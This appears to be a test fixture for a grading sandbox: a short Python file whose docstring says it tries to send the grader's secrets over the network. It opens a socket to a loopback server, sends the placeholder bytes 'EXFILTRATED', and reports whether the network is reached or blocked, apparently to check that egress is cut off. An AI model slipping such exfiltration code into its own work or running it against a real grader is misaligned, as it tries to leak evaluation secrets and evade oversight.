"""Tries to send the grader's secrets over the network (to a loopback server the test runs)."""
import socket

try:
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as connection:
        connection.sendall(b"EXFILTRATED")
    print("NETWORK reached")
except OSError as error:
    print("NETWORK blocked", type(error).__name__, error)


def replicated_sharding_value(x):
    return x.sum()
